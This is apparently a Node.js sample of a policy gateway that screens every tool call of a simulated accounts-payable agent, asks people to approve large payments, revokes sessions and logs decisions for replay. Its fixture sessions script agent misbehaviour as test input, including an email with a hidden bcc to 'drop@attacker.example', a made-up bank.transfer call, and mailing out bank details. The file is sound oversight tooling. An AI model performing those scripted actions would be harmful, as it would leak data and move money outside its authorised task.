#!/usr/bin/env node
// A tool gateway in front of an accounts-payable agent: every tool call the agent makes goes
// through `guard`, which asks the policy engine, acts on the answer, and writes a decision log
// that `policyc test --replay` replays as a test. The agent, the person who approves, the
// vendor master and the tools are simulated; the engine, the bundle and the log are real.
//
//   node samples/gateway/gateway.mjs [--log FILE]
import { spawnSync } from "node:child_process";
import { randomBytes } from "node:crypto";
import { appendFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, relative } from "node:path";
import { fileURLToPath, pathToFileURL } from "node:url";
// The enforcement point imports only the runtime: no parser, checker or compiler.
import { loadBundle } from "policyc/runtime";

const POLICY = fileURLToPath(new URL("../finance-agent", import.meta.url));
const POLICYC = fileURLToPath(new URL("../../bin/policyc.js", import.meta.url));

/**
 * The gateway. It builds each request itself from the session it opened for the agent (who
 * the agent is, for whom it acts, the task's intent) and what it knows about the call (the
 * labels of its data, the payee it resolved): the agent only names the tool and its arguments.
 */
export function createGateway({ engine, logFile, person, tools, resolveContext, print }) {
  const sessions = new Map();

  function open(id, { agent, user, intent }) {
    sessions.set(id, { id, agent, user, intent, credentials: [], revoked: false });
  }

  /**
   * Decides one call of the agent and carries the answer out. Calls are decided as they come,
   * a session's later calls too while one of its calls waits for a person: the log says when
   * the approval came (an approval line), so replay tells the engine of it there.
   */
  async function guard({ session: id, tool, args }) {
    const session = sessions.get(id);
    if (session === undefined) return { refused: true };
    // The arguments are read once, here, into a copy that holds only the declared ones: the request
    // is decided on that copy and the tool is given that same copy. Reading the agent's object again
    // after deciding would let it differ from what was decided (a getter, an array it still holds, an
    // inherited or non-enumerable argument); an undeclared one (a `bcc` beside the `to` the rules
    // checked) no rule saw, so it never reaches the tool, and the log names it. Undefined when the
    // arguments cannot be copied (not an object, too big or deep to walk, a getter that throws).
    const declared = typeof tool === "string" ? engine.declaredArguments(tool, args) : undefined;
    const shown = `[${session.id}] ${tool} ${brief(declared === undefined ? args : declared.args)}`;
    // Whatever the agent sends is decided and logged, arguments that are not an object too: the
    // engine refuses them, and the log's `deny` with `rules: []` replays as that refusal. Only a
    // call that names no tool is not one.
    if (typeof tool !== "string" || tool === "") {
      print(`${shown} → refused by the gateway: a tool call names a tool`);
      return { refused: true };
    }
    const decided = declared === undefined ? args : declared.args;
    // Built field by field, never the agent's own object: the log writes it as a recording line,
    // which would read an agent's extra `reason`, `event` or `approved` as its own keys.
    const request = {
      // Stamped by the gateway's own clock, never the agent's: the log keeps it, and replay
      // counts `session.count` windows, `session.called` and idle time by it.
      time: new Date().toISOString(),
      session: session.id,
      agent: session.agent,
      user: session.user,
      intent: session.intent,
      tool,
      // Absent or null arguments are left out (the engine reads null as absent; the log takes objects only).
      ...(args == null ? {} : { args: decided }),
      context: resolveContext(tool, declared?.args ?? {}),
    };
    const decision = engine.decide(request);
    const left = capped(declared?.undeclared ?? []);
    const undeclaredArgs = left.count > 0 ? { undeclaredArgs: [...left.names, ...left.more], undeclaredArgsCount: left.count } : {};
    const leftOut = left.count > 0 ? `; left out the undeclared arguments ${[left.names.join(", "), ...left.more].join(" ")}` : "";
    const rules = decision.rules.length > 0 ? ` (${decision.rules.join(", ")})` : "";
    // An ask's line says what a person's approval would mint (an allow or a deny has no such field).
    const onApproval = decision.decision === "ask" ? { grantsOnApproval: decision.grantsOnApproval, grantingRules: decision.grantingRules } : {};
    // The agent is told the decision and its reasons only (README, "What the agent may be told");
    // the rest (locations, errors: values the gateway set, the engine's settings) is for the log.
    writeLog({ ...request, decision: decision.decision, rules: decision.rules, grants: decision.grants, ...onApproval, revoked: decision.revoked, reasons: decision.reasons, locations: decision.locations, errors: decision.errors, ...undeclaredArgs });

    // The engine allows only a valid call of a declared tool, whose arguments it can copy: a call
    // it could not copy goes nowhere (fail closed), whatever the decision.
    if (decision.decision !== "deny" && declared === undefined) {
      print(`${shown} → refused by the gateway: its arguments could not be copied for the tool`);
      return { refused: true };
    }

    if (decision.decision === "allow") {
      const { credentials, granted } = grant(session, decision.grants, request.time);
      const result = await tools.call(tool, declared.args, credentials);
      print(`${shown} → allow${rules}${granted}${leftOut}; ${result}`);
      return { result };
    }

    if (decision.decision === "ask") {
      // The person sees the errors as well as the reasons: an ask rule whose condition could not
      // be evaluated matches (it fails closed), so its reason alone may not describe the call.
      const errors = decision.errors.length > 0 ? `; shown the errors too: ${decision.errors.join("; ")}` : "";
      print(`${shown} → ask${rules}: waiting for a person${errors}`);
      const answer = await person(request, { reasons: decision.reasons, errors: decision.errors });
      if (!answer.approved) {
        // The engine is told nothing: the call did not happen, and the log has nothing to add.
        print(`${shown} → ${answer.who} declined; told the agent: ${decision.reasons.join("; ")}`);
        return { declined: decision.reasons };
      }
      // The request as asked about, stamped when the approval came: the engine finds the asked
      // call by its tool and arguments, and refuses to approve any other. What the engine accepted,
      // not only what the person said: it refuses an approval in a session that expired or was
      // revoked meanwhile, and then the call does not go ahead.
      const approval = { ...request, time: new Date().toISOString() };
      const approved = engine.approved(approval);
      // An approval line, after the lines decided meanwhile: replay tells the engine of it here.
      writeLog({ event: "approval", ...approval, approved });
      if (!approved) {
        print(`${shown} → ${answer.who} approved, too late: the engine refused the approval (the session expired or was revoked)`);
        return { declined: ["the approval came too late"] };
      }
      // Only now, approved, does the call get the credentials the ask carries: those of the allow
      // rules that matched it, which nothing may mint before a person approves.
      const { credentials, granted } = grant(session, decision.grantsOnApproval, approval.time);
      const result = await tools.call(tool, declared.args, credentials);
      print(`${shown} → ${answer.who} approved (logged as an approval line)${granted}${leftOut}; ${result}`);
      return { result };
    }

    if (decision.revoked) {
      // Every credential granted in a revoked session is void; its agent is stopped.
      const revokedNow = !session.revoked;
      session.revoked = true;
      const voided = session.credentials.splice(0).length;
      print(`${shown} → deny${rules}: ${decision.reasons.join("; ")}; ${revokedNow ? `session revoked: agent stopped, ${voided} credential${voided === 1 ? "" : "s"} voided` : "agent already stopped"}`);
      return { denied: decision.reasons, stopped: true };
    }
    print(`${shown} → deny${rules}: told the agent: ${decision.reasons.join("; ")}`);
    return { denied: decision.reasons };
  }

  /** Mints a credential per grant for a call of the session (a revocation voids them), and says what it minted. */
  function grant(session, grants, time) {
    const credentials = grants.map((g) => mint(g, time));
    session.credentials.push(...credentials);
    const granted = credentials.map((c) => `; ${c.scope} credential until ${c.expiresAt.slice(11, 19)}Z (fake token ${c.token})`).join("");
    return { credentials, granted };
  }

  /**
   * One line of the decision log, in the order things happened: a decision's (the request's
   * own fields as decided, its `time` included, with the decision, its rules, grants (of an ask,
   * its grants on approval too) and whether it revoked the session — what a replay compares —
   * the reasons the agent was told, and for the audit the locations and errors it was not
   * told), or an approval's (`"event": "approval"`:
   * the request as passed to `engine.approved`, and what it returned).
   */
  function writeLog(line) {
    appendFileSync(logFile, `${JSON.stringify(line)}\n`);
  }

  return { open, guard };
}

/** A short-lived credential for one grant. The token is fake: a real gateway asks its secrets broker. */
function mint({ scope, ttlSeconds }, time) {
  return { scope, expiresAt: new Date(Date.parse(time) + ttlSeconds * 1000).toISOString(), token: `FAKE-${randomBytes(4).toString("hex")}` };
}

/**
 * At most SHOWN_NAMES of `names`, then "and N more": an agent can send any number of undeclared
 * arguments, and each would otherwise lengthen the transcript and the log line without bound.
 */
const SHOWN_NAMES = 20;
function capped(names) {
  const more = names.length - SHOWN_NAMES;
  return { names: names.slice(0, SHOWN_NAMES), more: more > 0 ? [`and ${more.toLocaleString("en-US")} more`] : [], count: names.length };
}

function brief(args) {
  const text = JSON.stringify(args) ?? "";
  return text.length > 70 ? `${text.slice(0, 69)}…` : text;
}

// ---- What the gateway knows: the vendor master, and the labels of each tool's data. ----

const DAY_MS = 86_400_000;
const VENDOR_MASTER = {
  "V-1042": { id: "V-1042", verified: true, known_for: 730 * DAY_MS, country: "US" },
  "V-2210": { id: "V-2210", verified: true, known_for: 1500 * DAY_MS, country: "US" },
};

/** The call's context: the labels of the data it carries, and for a payment the payee as the vendor master knows it. */
function resolveContext(tool, args) {
  // Payments carry financial data; a new payee's bank details are personal data (`pii`), as a payee record is.
  const labels = tool === "payments.send" ? ["financial"] : tool === "payee.create" ? ["pii"] : [];
  const payee = tool === "payments.send" ? VENDOR_MASTER[args.payee_id] : undefined;
  return payee === undefined ? { labels } : { labels, payee };
}

// ---- The simulated rest of the world: tools, the people who approve, the agent. ----

let payments = 0;
const tools = {
  async call(tool, args) {
    switch (tool) {
      case "payments.send":
        return `payment PAY-${String(++payments).padStart(4, "0")} submitted (fake)`;
      case "payee.create":
        return `payee V-4711 created for ${args.name} (fake)`;
      case "email.send":
        return `email sent to ${args.to.join(", ")} (fake)`;
      default:
        return `${tool} returned its (fake) result`;
    }
  },
};

/**
 * People who answer the gateway's questions (by session, tool and, for payments, invoice), each
 * after a while: the agents go on meanwhile. A real one is shown the decision's reasons and errors.
 */
const ANSWERS = {
  "fa-pay-run/payments.send/INV-CL-7731": { who: "the controller", approved: false, afterMs: 10 },
  "fa-pay-run/payments.send/INV-CL-7740": { who: "the controller", approved: true, afterMs: 10 },
  "fa-onboard/payee.create": { who: "the AP lead", approved: true, afterMs: 200 },
};
async function person(request) {
  const key = `${request.session}/${request.tool}`;
  const answer = ANSWERS[`${key}/${request.args?.invoice_id}`] ?? ANSWERS[key] ?? { who: "nobody", approved: false, afterMs: 0 };
  await new Promise((resolve) => setTimeout(resolve, answer.afterMs));
  return answer;
}

const AP_BOT = { id: "spiffe://acme.com/agents/ap-bot", team: "finance-ops" };
const CLERK = { id: "clerk.maria", roles: ["ap-clerk"] };

/** Three agent sessions: each a list of steps; a step of several calls sends them at once. */
const SESSIONS = [
  {
    id: "fa-pay-run",
    who: { agent: AP_BOT, user: CLERK, intent: "finance.pay_invoices" },
    steps: [
      { tool: "invoices.list", args: { vendor: "Northwind Office Supply" } },
      { tool: "payments.send", args: { payee_id: "V-1042", invoice_id: "INV-NW-20817", amount_cents: 48250, currency: "USD", rail: "ach" } },
      // Hearing nothing while the controller decides, the agent sends the payment again: a
      // repeat, denied while the first waits.
      [
        { tool: "payments.send", args: { payee_id: "V-2210", invoice_id: "INV-CL-7731", amount_cents: 312000, currency: "USD", rail: "ach" } },
        { tool: "payments.send", args: { payee_id: "V-2210", invoice_id: "INV-CL-7731", amount_cents: 312000, currency: "USD", rail: "ach" } },
      ],
      // The agent writes the amount as text: an invalid request.
      { tool: "payments.send", args: { payee_id: "V-2210", invoice_id: "INV-CL-7731", amount_cents: "3120.00", currency: "USD", rail: "ach" } },
      // Another large payment, which the controller approves: it goes ahead with the
      // payments:write credential the ask carries for approval.
      { tool: "payments.send", args: { payee_id: "V-2210", invoice_id: "INV-CL-7740", amount_cents: 240000, currency: "USD", rail: "ach" } },
    ],
  },
  {
    id: "fa-onboard",
    who: { agent: AP_BOT, user: CLERK, intent: "finance.vendor_onboarding" },
    steps: [
      // A `bcc` the schema does not declare: no rule sees it, so the gateway leaves it out of the call.
      { tool: "email.send", args: { to: ["billing@globex.example"], bcc: ["drop@attacker.example"], subject: "Vendor set-up at Acme", body: "Please send a bank letter on company letterhead." } },
      // While the AP lead reviews the new payee, the agent tells the vendor: allowed, as the
      // session holds no bank details until the approval.
      [
        { tool: "payee.create", args: { name: "Globex Corporation", iban: "DE89370400440532013000", country: "DE" } },
        { tool: "email.send", args: { to: ["billing@globex.example"], subject: "Set-up under review", body: "Your details are being checked." } },
      ],
      // Once the payee is added (its bank details, approved, are in the session) it may not be mailed out.
      { tool: "email.send", args: { to: ["billing@globex.example"], subject: "You are set up", body: "We will pay to IBAN DE89370400440532013000." } },
      { tool: "email.send", args: { to: ["ap-team@acme.com"], subject: "New vendor: Globex Corporation", body: "Added as V-4711 after a call-back." } },
    ],
  },
  {
    id: "fa-reconcile",
    who: { agent: AP_BOT, user: CLERK, intent: "finance.reconcile" },
    steps: [
      { tool: "ledger.query", args: { account: "2000-accounts-payable", period: "2025-03" } },
      // A tool the agent made up, and a call whose arguments are not an object.
      { tool: "bank.transfer", args: { to: "DE89370400440532013000", amount_cents: 990000 } },
      { tool: "invoices.get", args: "INV-NW-20817" },
      // Two calls at once: a reconciliation that pays is revoked, and the call beside it is denied with it.
      [
        { tool: "payments.send", args: { payee_id: "V-1042", invoice_id: "INV-NW-20818", amount_cents: 9900, currency: "USD", rail: "ach" } },
        { tool: "invoices.get", args: { invoice_id: "INV-NW-20818" } },
      ],
      { tool: "ledger.query", args: { account: "2000-accounts-payable", period: "2025-04" } },
    ],
  },
];

/** An agent: sends its steps through the gateway, and stops when the gateway says so. */
async function runAgent(gateway, { id, steps }) {
  for (const step of steps) {
    const outcomes = await Promise.all([step].flat().map((call) => gateway.guard({ session: id, ...call })));
    if (outcomes.some((o) => o.stopped)) return;
  }
}

// ---- Main: build the bundle (as CI would), load it, run the agents, report. ----

// Run as a program; imported (as test/gateway.test.ts does, for createGateway), it runs nothing.
if (process.argv[1] !== undefined && import.meta.url === pathToFileURL(process.argv[1]).href) await main();

async function main() {
  const logArg = process.argv.indexOf("--log");
  if (logArg >= 0 && process.argv[logArg + 1] === undefined) {
    console.error("usage: node samples/gateway/gateway.mjs [--log FILE]");
    process.exit(2);
  }
  const work = mkdtempSync(join(tmpdir(), "policyc-gateway-"));
  const logFile = logArg >= 0 ? process.argv[logArg + 1] : join(work, "decisions.jsonl");
  const bundleFile = join(work, "finance.bundle.json");
  const build = spawnSync(process.execPath, [POLICYC, "build", POLICY, "-o", bundleFile], { encoding: "utf8" });
  if (build.status !== 0) {
    console.error(build.stderr);
    process.exit(1);
  }
  // No `publicKey` here: this process built the bundle a moment ago into a folder only it
  // writes. A gateway that loads a bundle someone else shipped checks who signed it, and which
  // release it is (`policyc build --sign key.pem` signs it; the release records the hash build prints):
  //   loadBundle(JSON.parse(text), { publicKey: readFileSync("public.pem"), contentHash: "sha256:…" })
  const engine = loadBundle(JSON.parse(readFileSync(bundleFile, "utf8")));
  console.log(`built and loaded a bundle of ${relative(process.cwd(), POLICY) || "."}: ${engine.rules.length} rules`);
  writeFileSync(logFile, "");
  const gateway = createGateway({ engine, logFile, person, tools, resolveContext, print: (line) => console.log(line) });
  for (const session of SESSIONS) gateway.open(session.id, session.who);
  await Promise.all(SESSIONS.map((session) => runAgent(gateway, session)));

  const lines = readFileSync(logFile, "utf8").split("\n").filter((line) => line !== "").length;
  console.log(`decision log: ${logFile} (${lines} lines)`);
  console.log(`replay it:    npx policyc test ${relative(process.cwd(), POLICY) || "."} --replay ${logFile}`);
  if (logArg >= 0) rmSync(work, { recursive: true, force: true });
}
